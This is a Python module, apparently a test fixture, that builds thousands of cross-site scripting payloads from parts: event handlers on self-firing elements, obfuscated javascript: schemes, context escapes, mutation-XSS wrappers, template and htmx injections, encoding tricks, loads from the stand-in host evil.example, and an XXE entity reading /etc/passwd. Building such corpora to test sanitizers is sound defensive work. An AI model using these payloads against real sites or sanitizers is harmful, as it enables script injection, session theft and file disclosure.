"""What attackers write where text is asked for: made from its parts, so that no known shape is forgotten.

Each payload would call `alert(1)` or load from evil.example, if anything let it.
"""

from itertools import product

CALL = "alert(1)"
ELSEWHERE = "//evil.example/x"

# Handlers that run without anybody's help, and some that wait for a touch.
# fmt: off
EVENTS = [
    "onabort", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforematch",
    "onbeforepaste", "onbeforetoggle", "onblur", "oncanplay", "oncanplaythrough", "onchange", "onclick",
    "oncontentvisibilityautostatechange", "oncopy", "oncuechange", "oncut", "ondblclick", "ondrag", "ondragenter",
    "ondrop", "ondurationchange", "onended", "onerror", "onfocus", "onfocusin", "onformdata", "onfullscreenchange",
    "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup", "onload", "onloadeddata",
    "onloadedmetadata", "onloadstart", "onmessage", "onmousedown", "onmouseenter", "onmouseleave", "onmousemove",
    "onmouseout", "onmouseover", "onmouseup", "onmousewheel", "onpageshow", "onpaste", "onpause", "onplay",
    "onplaying", "onpointerdown", "onpointerenter", "onpointermove", "onpointerover", "onpointerrawupdate",
    "onpopstate", "onprogress", "onratechange", "onreset", "onresize", "onscroll", "onscrollend",
    "onscrollsnapchange", "onsearch", "onsecuritypolicyviolation", "onseeked", "onseeking", "onselect",
    "onselectionchange", "onselectstart", "onshow", "onslotchange", "onstart", "onsubmit", "onsuspend",
    "ontimeupdate", "ontoggle", "ontouchend", "ontouchmove", "ontouchstart", "ontransitionend", "ontransitionrun",
    "onunhandledrejection", "onunload", "onvolumechange", "onwaiting", "onwebkitanimationstart",
    "onwebkitmouseforceup", "onwheel",
]
# fmt: on
# Elements that load, get the focus or play by themselves.
ELEMENTS = [
    "<img src=x {0}>",
    "<svg {0}>",
    "<body {0}>",
    "<video src=x {0}></video>",
    "<audio src=x {0} autoplay></audio>",
    "<details open {0}>x</details>",
    "<input autofocus {0}>",
    "<iframe src=x {0}></iframe>",
    "<object data=x {0}></object>",
    "<math {0}><mi>x",
    "<custom-element tabindex=1 autofocus {0}>x",
    "<style {0}>*{{}}</style>",
    "<marquee {0}>x</marquee>",
    "<a href=# {0} style='position:fixed;inset:0'>x</a>",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<script/src=//evil.example/x></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script type=module>import '//evil.example/x'</script>",
    '<script type=importmap>{"imports":{}}</script>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=//evil.example/x></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x' onerror=\"alert(1)\">",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<form><input type=submit formaction=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/x'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=preload as=script href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>x",
    "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 1x'>",
    "<video poster=//evil.example/x>",
    "<input type=image src=//evil.example/x>",
    "<table background=//evil.example/x><td>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<portal src=//evil.example/x></portal>",
    "<div popover onbeforetoggle=alert(1) id=p>x</div><button popovertarget=p>x",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
# Ways out of where a template may have put the text.
ESCAPES = [
    '"',
    "'",
    "`",
    '">',
    "'>",
    '" ',
    "' ",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</option></select>",
    "</bdi></a></h1>",
    '\\"',
    "\r\n\r\n",
]
BARE = ["onfocus=alert(1) autofocus x=", "style=x:expression(alert(1)) x=", "src=//evil.example/x x="]
# The scheme, spelled so that a filter reads another one.
JAVASCRIPTS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript\t:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "javascript:%61lert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "blob:null/alert(1)",
    "//evil.example/x",
    "\\\\evil.example/x",
    "https:evil.example",
]
LINKS = [
    "<a href='{0}'>x</a>",
    "<a href={0}>x</a>",
    "<svg><a xlink:href='{0}'><text>x</text></a></svg>",
    "<area href='{0}'>",
    "<iframe src='{0}'></iframe>",
    "[x]({0})",
    "[x](<{0}>)",
    "<{0}>",
    "![x]({0})",
    "[x]: {0}\n\n[x]",
]
# Elements whose contents are read in another way, and what may carry markup past a reader: mutation (R69).
OUTER = [
    ("<noscript>", "</noscript>"),
    ("<template>", "</template>"),
    ("<textarea>", "</textarea>"),
    ("<title>", "</title>"),
    ("<style>", "</style>"),
    ("<xmp>", "</xmp>"),
    ("<iframe>", "</iframe>"),
    ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"),
    ("<select>", "</select>"),
    ("<table>", "</table>"),
    ("<math>", "</math>"),
    ("<svg>", "</svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<form><math><mtext></form><form>", "</math>"),
    ("<math><mtext><table><mglyph>", "</mglyph></table></math>"),
    ("<svg></p>", "</svg>"),
    ("<svg></br>", "</svg>"),
]
CARRIERS = [
    '<img title="{0}<img src=x onerror=alert(1)>">',
    "<style><!--{0}<img src=x onerror=alert(1)>--></style>",
    '<style><a id="{0}<img src=x onerror=alert(1)>">',
    "<a title='{0}<svg onload=alert(1)>'>x</a>",
    "<!--{0}<img src=x onerror=alert(1)>-->",
    "<![CDATA[{0}<img src=x onerror=alert(1)>]]>",
    '<p title="{0}<script>alert(1)</script>">',
    "<mglyph><style>{0}<img src=x onerror=alert(1)></style>",
    '<title><a id="{0}<img src=x onerror=alert(1)>">',
    "<option><style>{0}<img src=x onerror=alert(1)></style>",
    "&lt;/style&gt;{0}&lt;img src=x onerror=alert(1)&gt;",
]
# Not HTML's own: templates, htmx, other scripts' spellings of a bracket, and text that turns around.
OTHERS = [
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{% debug %}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "%(subject)s %s %n",
    "{0.__class__}",
    "<div hx-get=//evil.example/x hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1)>x</div>",
    "<div data-hx-on--load=alert(1) hx-on::load=alert(1)>x</div>",
    "<div id=ticket-stage hx-swap-oob=true>x</div>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "<div hx-headers='js:{x:alert(1)}' hx-vals='js:{x:alert(1)}' hx-trigger='load[alert(1)]'>x",
    "<a href=# data-confirm data-focus autofocus>x</a>",
    "＜script＞alert(1)＜/script＞",
    "﹤img src=x onerror=alert(1)﹥",
    "‹img src=x onerror=alert(1)›",
    "\u00ad<\u00adscript>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "<img src=x onerror=alert(1)\u00a0>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "> </blockquote><svg onload=alert(1)>",
    "- </li></ul><svg onload=alert(1)>",
    "**</strong><svg onload=alert(1)>**",
    'https://x.example/"onmouseover=alert(1)//',
    "https://x.example/<svg onload=alert(1)>",
    '<https://x.example/" onclick=alert(1)>',
    '[x](https://x.example "t" onclick=alert(1))',
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "<?xml-stylesheet href=//evil.example/x?><x/>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<!DOCTYPE html><html onload=alert(1)>",
]


def _handlers() -> list[str]:
    return [element.format(f"{event}={CALL}") for event, element in product(EVENTS, ELEMENTS)]


def _ways_out() -> list[str]:
    return [escape + what for escape, what in product(ESCAPES, [*SCRIPTS[:2], SCRIPTS[13], SCRIPTS[21], *BARE])]


def _mutations() -> list[str]:
    return [opening + carrier.format(closing) for (opening, closing), carrier in product(OUTER, CARRIERS)]


def _links() -> list[str]:
    return [link.format(address) for link, address in product(LINKS, JAVASCRIPTS)]


MUTATIONS = list(dict.fromkeys(_mutations()))
# The shortest and strangest come first: a column cuts what is longer than it.
PAYLOADS = list(dict.fromkeys([*SCRIPTS, *OTHERS, *_ways_out(), *_links(), *MUTATIONS, *_handlers()]))
